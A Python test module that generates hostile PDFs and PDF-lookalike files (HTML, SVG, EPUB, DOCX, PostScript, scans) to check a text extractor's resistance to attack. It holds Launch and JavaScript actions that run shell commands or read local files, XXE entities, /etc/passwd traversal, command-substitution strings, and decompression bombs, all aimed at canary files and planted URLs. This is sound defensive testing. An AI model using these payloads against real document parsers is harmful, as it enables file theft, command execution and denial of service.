"""PDFs that name files, run things or spend; other documents that claim to be PDFs; scans."""

from __future__ import annotations

import textwrap
import zipfile
import zlib
from collections.abc import Mapping
from io import BytesIO

from curation.extract.pdf._load_pymupdf import pymupdf
from tests.extract.pdfs import text_bomb
from tests.security.hostile import Hostile, file
from tests.security.planted import Planted
from tests.security.prose import paper, paragraphs


def raw_pdf(
    name: str,
    *,
    catalog: str = "",
    page: str = "",
    resources: str = "",
    content: str = "",
    stream: str = "",
    font: str = "/BaseFont /Helvetica",
    more: Mapping[int, str] | None = None,
) -> bytes:
    """A PDF of one page of prose, with hostile entries in its objects.

    Args:
        catalog, page, stream: entries of these dictionaries (stream: of the page's content).
        resources, content, font: of the page, beside those of the prose.
        more: objects from number 6 on.
    """
    lines = [line for text in paragraphs(name, 4, 4) for line in (*textwrap.wrap(text, 90), "")]
    shown = "BT /F1 10 Tf 50 780 Td 12 TL " + " ".join(f"({line}) Tj T*" for line in lines) + f" ET {content}"
    packed = zlib.compress(shown.encode())
    objects: dict[int, bytes] = {
        1: f"<< /Type /Catalog /Pages 2 0 R {catalog} >>".encode(),
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Contents 4 0 R {page} "
        f"/Resources << /Font << /F1 5 0 R >> {resources} >> >>".encode(),
        4: f"<< /Length {len(packed)} /Filter /FlateDecode {stream} >>\nstream\n".encode() + packed + b"\nendstream",
        5: f"<< /Type /Font /Subtype /Type1 {font} >>".encode(),
    } | {number: text.encode("latin-1") for number, text in (more or {}).items()}
    body = b"%PDF-1.7\n"
    table = f"xref\n0 {max(objects) + 1}\n0000000000 65535 f \n".encode()
    for number in range(1, max(objects) + 1):
        table += f"{len(body):010d} 00000 n \n".encode()
        body += f"{number} 0 obj\n".encode() + objects.get(number, b"null") + b"\nendobj\n"
    end = f"trailer << /Size {max(objects) + 1} /Root 1 0 R >>\nstartxref\n{len(body)}\n%%EOF"
    return body + table + end.encode()


def _stream(entries: str, data: str = "") -> str:
    return f"<< {entries} /Length {len(data)} >>\nstream\n{data}\nendstream"


def pdfs(planted: Planted) -> list[Hostile]:
    """PDFs that point outside of themselves in every way that the standard has."""
    at = str(planted.stems[0])
    spec = f"<< /Type /Filespec /F ({at}) /UF ({at}) /Unix ({at}) /DOS ({at}) >>"
    url = f"<< /FS /URL /F ({planted.url}/asked) >>"
    touch = f"touch {planted.canary}"
    actions = {
        "launch": f"<< /S /Launch /F (/bin/sh) /Unix << /F ({touch}) >> /Win << /F (cmd) /P ({touch}) >> >>",
        "javascript": f"<< /S /JavaScript /JS (app.launchURL\\('{planted.url}/asked'\\); this.importDataObject\\('x', '{at}'\\); "
        f"var s = util.stringFromStream\\(util.readFileIntoStream\\('{at}', true\\)\\); this.addField\\(s\\); app.alert\\(s\\);) >>",
        "remote": f"<< /S /GoToR /F {spec} /D [0 /Fit] /NewWindow true >>",
        "uri": f"<< /S /URI /URI (file://{at}) /Next << /S /URI /URI ({planted.url}/asked) >> >>",
        "submit": f"<< /S /SubmitForm /F {url} /Flags 4 /Next << /S /ImportData /F {spec} >> >>",
        "embedded": f"<< /S /GoToE /T << /R /C /N (x) >> /F {spec} >>",
    }
    made = {
        name: raw_pdf(
            name, catalog=f"/OpenAction {action} /AA << /WC {action} /O {action} >>", page=f"/AA << /O {action} >>"
        )
        for name, action in actions.items()
    }
    made["attachment"] = raw_pdf(
        "attachment",
        catalog=f"/Names << /EmbeddedFiles << /Names [(x) {spec}] >> >> /AF [{spec}]",
        page=f"/Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS {spec} /Contents (x) >>]",
    )
    made["content-outside"] = raw_pdf("content outside", stream=f"/F {spec} /FFilter /FlateDecode")
    made["form-outside"] = raw_pdf(
        "form outside",
        resources="/XObject << /X 6 0 R /Y 7 0 R /P 8 0 R >>",
        content="/X Do /Y Do /P Do",
        more={
            6: _stream(f"/Type /XObject /Subtype /Form /BBox [0 0 600 800] /F {spec} /Ref << /F {spec} /Page 0 >>"),
            7: _stream(f"/Type /XObject /Subtype /Image /Width 9 /Height 9 /BitsPerComponent 8 /ColorSpace /DeviceGray /F {spec} /OPI << /2.0 << /F {spec} >> >>"),
            8: _stream("/Type /XObject /Subtype /PS", f"({at}) (r) file 999 string readstring pop show"),
        },
    )  # fmt: skip
    made["font-outside"] = raw_pdf(
        "font outside",
        font=f"/BaseFont /..#2F..#2F..#2Fetc#2Fpasswd /Encoding /..#2F..{at.replace('/', '#2F')} /ToUnicode 6 0 R "
        f"/FontDescriptor << /Type /FontDescriptor /FontName /{at.replace('/', '#2F')} /Flags 4 /FontFile 6 0 R /FontFile2 6 0 R >>",
        more={6: _stream(f"/F {spec} /UseCMap /..#2F..#2Fetc#2Fpasswd")},
    )
    entities = (
        f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file://{at}"><!ENTITY u SYSTEM "{planted.url}/asked">]>'
    )
    made["xfa"] = raw_pdf(
        "xfa",
        catalog="/AcroForm << /XFA [(template) 6 0 R (datasets) 6 0 R] /Fields [] /NeedAppearances true >> /Metadata 7 0 R",
        more={
            6: _stream("/Type /EmbeddedFile", f"{entities}<xdp:xdp xmlns:xdp='x'>&e;&u;<script>{touch}</script></xdp:xdp>"),
            7: _stream("/Type /Metadata /Subtype /XML", f"{entities}<x:xmpmeta xmlns:x='adobe:ns:meta/'>&e;&u;</x:xmpmeta>"),
        },
    )  # fmt: skip
    made["media"] = raw_pdf(
        "media",
        page=f"/Annots [<< /Type /Annot /Subtype /Movie /Rect [0 0 99 99] /Movie << /F {spec} >> >> "
        f"<< /Type /Annot /Subtype /Screen /Rect [0 0 99 99] /A << /S /Rendition /R << /C << /D {spec} >> >> >> >> "
        f"<< /Type /Annot /Subtype /Widget /FT /Tx /T (t) /V (x) /Rect [0 0 99 99] /AA << /K {actions['javascript']} >> >>]",
    )
    made["loops"] = raw_pdf(
        "loops",
        catalog="/Outlines 6 0 R /StructTreeRoot 6 0 R",
        resources="/XObject << /X 7 0 R >>",
        content="/X Do " * 50,
        more={
            6: "<< /First 6 0 R /Last 6 0 R /Next 6 0 R /K 6 0 R /Title (x) /A 6 0 R >>",
            7: _stream("/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 7 0 R >> >>", "/X Do " * 50),
        },
    )  # fmt: skip
    made["huge-page"] = raw_pdf("huge page", page="/UserUnit 75000 /Rotate 90").replace(
        b"[0 0 600 800]", b"[0 0 9e9 800]"
    )
    made["text-bomb"] = text_bomb(3_000_000)
    return [file("pdf", f"pdf-{name}.pdf", data) for name, data in made.items()]


def _zip(members: Mapping[str, str | bytes]) -> bytes:
    sink = BytesIO()
    with zipfile.ZipFile(sink, "w") as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return sink.getvalue()


def claims(planted: Planted) -> list[Hostile]:
    """Documents that MuPDF opens by their content, with the first bytes of a PDF somewhere in their head."""
    at, prose = planted.stems[0], " ".join(paragraphs("claims"))
    head = "%PDF-1.4"
    entity = f'<!DOCTYPE x [<!ENTITY e SYSTEM "file://{at}"><!ENTITY u SYSTEM "{planted.url}/asked">]>'
    html = (
        f'<link rel="stylesheet" href="{at}.css"/><link rel="stylesheet" href="file://{at}.css"/><style>@import url({at}.css);'
        f'@font-face {{font-family: x; src: url(file://{at})}}</style><p>{prose} &e;</p><img src="file://{at}.png"/>'
        f'<img src="{planted.url}/asked"/><iframe src="{at}.html"></iframe><object data="{at}.html"></object>'
    )
    page = f'<html xmlns="http://www.w3.org/1999/xhtml"><body>{html}</body></html>'
    image = f'<image width="99" height="99" href="file://{at}.svg"/><use href="{at}.svg#x"/><text y="50">&e; {prose[:300]}</text>'
    svg = f'<svg xmlns="http://www.w3.org/2000/svg" width="600" height="600">{image}</svg>'
    fb2 = (
        f'<FictionBook xmlns="http://www.gribuser.ru/xml/fictionbook/2.0"><body><p>{prose} &e;</p></body></FictionBook>'
    )
    opf = f'<package><manifest><item id="a" href="a.xhtml"/><item id="b" href="../../../..{at}.html"/></manifest><spine><itemref idref="a"/><itemref idref="b"/></spine></package>'
    relationships = (
        '<Relationships><Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        f'officeDocument" Target="word/document.xml"/><Relationship Id="s" TargetMode="External" Target="file://{at}"/></Relationships>'
    )
    word = f'{entity}<w:document xmlns:w="x"><w:body><w:p><w:r><w:t>{prose} &e;</w:t></w:r></w:p></w:body></w:document>'
    fixed = '<Relationships><Relationship Type="http://schemas.microsoft.com/xps/2005/06/fixedrepresentation" Target="/f.fdseq"/></Relationships>'
    drawn = f'<FixedPage Width="600" Height="600"><Glyphs FontUri="file://{at}" UnicodeString="x"/><Path Data="{at}"/></FixedPage>'
    container = '<container><rootfiles><rootfile full-path="c.opf"/></rootfiles></container>'
    pixels = pymupdf.Pixmap(pymupdf.csRGB, (0, 0, 64, 64)).tobytes("png")
    made: dict[str, bytes | str] = {
        "html": f"<!--{head}-->{page}",
        "xhtml": f'<?xml version="1.0"?><!--{head}-->{entity}{page}',
        "svg": f'<?xml version="1.0"?><!--{head}-->{entity}{svg}',
        "fb2": f'<?xml version="1.0"?><!--{head}-->{entity}{fb2}',
        "epub": _zip({head: "", "mimetype": "application/epub+zip", "META-INF/container.xml": container, "c.opf": opf, "a.xhtml": entity + page}),
        "docx": _zip({head: "", "_rels/.rels": relationships, "[Content_Types].xml": "<Types/>", "word/document.xml": word}),
        "xps": _zip({head: "", "_rels/.rels": fixed, "f.fdseq": '<FixedDocumentSequence><DocumentReference Source="/d.fdoc"/></FixedDocumentSequence>', "d.fdoc": '<FixedDocument><PageContent Source="/p.fpage"/></FixedDocument>', "p.fpage": drawn}),
        "cbz": _zip({head: "", "a.png": pixels, f"../../../..{at}": pixels}),
        "postscript": f"%!PS-Adobe-3.0\n{head}\n({at}) (r) file 999 string readstring pop show (%pipe%touch {planted.canary}) (w) file showpage",
        "png": pixels[:33] + len(head).to_bytes(4, "big") + b"tEXt" + head.encode() + bytes(4) + pixels[33:],
        "text": f"{head} {prose}",
        "nothing": f"{head}\n%%EOF",
    }  # fmt: skip
    plain = {
        "plain.txt": entity + svg,
        "plain.html": page,
        "plain.xml": f"{entity}<a>{prose} &e;&u;</a>",
        "plain.ps": made["postscript"],
    }
    return [file("claims", f"claims-{name}.pdf", data) for name, data in made.items()] + [
        file("claims", name, data.replace(head.encode(), b"") if isinstance(data, bytes) else data.replace(head, "")) for name, data in plain.items()
    ]  # fmt: skip


def scans(planted: Planted) -> list[Hostile]:
    """Pages without text: only OCR reads them."""
    word = pymupdf.open()
    page = word.new_page(width=300, height=120)
    page.insert_text((10, 40), r"\input{/etc/passwd} $(touch x)", fontsize=14)
    page.insert_text((10, 80), "`cat ~/.netrc` --psm 0 -c x", fontsize=14)
    drawn = pymupdf.open()
    drawn.new_page(width=300, height=120).insert_image((0, 0, 300, 120), pixmap=page.get_pixmap(dpi=150))
    spec = f"/F ({planted.stems[0]}.png)"
    bomb = (
        f"/Type /XObject /Subtype /Image /Width 60000 /Height 60000 /BitsPerComponent 8 /ColorSpace /DeviceRGB {spec}"
    )
    huge = raw_pdf("x", resources="/XObject << /X 6 0 R >>", more={6: _stream(bomb, "x")}, stream="/Filter /None")
    packed = zlib.compress(bytes(30_000_000), 9).decode("latin-1")
    deep = raw_pdf(
        "x",
        resources="/XObject << /X 6 0 R >>",
        more={6: _stream(f"{bomb} /Filter /FlateDecode", packed)},
        stream="/Filter /None",
    )
    return [
        file("scans", "scan-words.pdf", drawn.tobytes(deflate=True)),
        file("scans", "scan-huge-image.pdf", huge),
        file("scans", "scan-packed-image.pdf", deep),
        file("scans", "scan-with-tex.tex", paper("scan with tex", rf"\includegraphics{{{planted.stems[0]}.png}}")),
    ]
